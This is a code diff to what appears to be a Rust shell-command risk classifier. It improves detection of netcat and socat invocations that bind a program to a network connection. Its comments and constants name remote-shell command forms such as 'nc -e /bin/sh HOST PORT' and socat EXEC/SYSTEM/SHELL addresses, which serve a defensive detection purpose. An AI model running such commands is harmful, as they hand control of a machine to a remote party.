@@ -4,6 +4,7 @@ use super::{Input, Verdict};
 use crate::Risk;
 use crate::Sentence as S;
 use crate::paths::FileOp;
+use crate::shell::options::{self, Does};
 use crate::shell::words::Word;
 
 pub(super) fn kill(input: &Input<'_>) -> Verdict {
@@ -43,18 +44,13 @@ pub(super) fn network(input: &Input<'_>) -> Verdict {
     let mut v = Verdict::new(Risk::High, S::new("engine-network").text("program", p));
     let args = input.args;
     // `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:sh`: a program whose input
-    // and output are the connection runs whatever the other end sends.
+    // and output are the connection runs whatever the other end sends. nc's options
+    // are the option table's (every spelling: `-e`, `-e/bin/sh`, `-lvpe`,
+    // `--sh-exec=`); socat's addresses are [`SOCAT_PROGRAM_ADDRESSES`].
     let connects_a_program = match p {
-        "nc" | "ncat" | "netcat" => args.iter().any(|a| {
-            matches!(
-                a.text.as_str(),
-                "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
-            )
-        }),
-        "socat" => args.iter().any(|a| {
-            let t = a.text.to_ascii_uppercase();
-            t.starts_with("EXEC:") || t.starts_with("SYSTEM:")
-        }),
+        "nc" | "ncat" | "netcat" => options::parse(p, args)
+            .is_some_and(|o| o.has(Does::RunsScript) || o.has(Does::RunsProgram)),
+        "socat" => args.iter().any(|a| socat_runs_a_program(&a.text)),
         _ => false,
     };
     if connects_a_program {
@@ -66,12 +62,27 @@ pub(super) fn network(input: &Input<'_>) -> Verdict {
     if matches!(p, "rsync" | "scp") {
         copy_destination(&mut v, input);
     }
-    // Files written or read through options (`curl -fsSLo F`, `wget -qO F`) are
-    // judged from the option table (`options.rs`); the files a download writes without
-    // naming them (`curl -O`, `wget URL`, `--output-dir`, `-P`), its logs and cookie
-    // jars, are the download judge's.
+    // Files written or read through options (`curl -fsSLo F`, `wget -qO F`, logs and
+    // cookie jars) are judged from the option table (`options.rs`); the files a
+    // download writes without naming them (`curl -O`, `wget URL`, into `--output-dir`
+    // or `-P`) are the download judge's, which reads the options through that table.
     super::download::writes(&mut v, input);
     v
+}
+
+/// socat's address types that run a program with the connection as its input and
+/// output (names are case-insensitive).
+const SOCAT_PROGRAM_ADDRESSES: &[&str] = &["EXEC", "SYSTEM", "SHELL"];
+
+/// Whether a socat address runs a program: one of [`SOCAT_PROGRAM_ADDRESSES`], alone
+/// or as either half of a dual address (`READ!!WRITE`, `A%B`).
+fn socat_runs_a_program(address: &str) -> bool {
+    address.split("!!").flat_map(|a| a.split('%')).any(|half| {
+        let kind = half.split([':', ',']).next().unwrap_or("");
+        SOCAT_PROGRAM_ADDRESSES
+            .iter()
+            .any(|k| k.eq_ignore_ascii_case(kind.trim()))
+    })
 }
 
 /// Package managers and language tool chains: installs and publishing are High
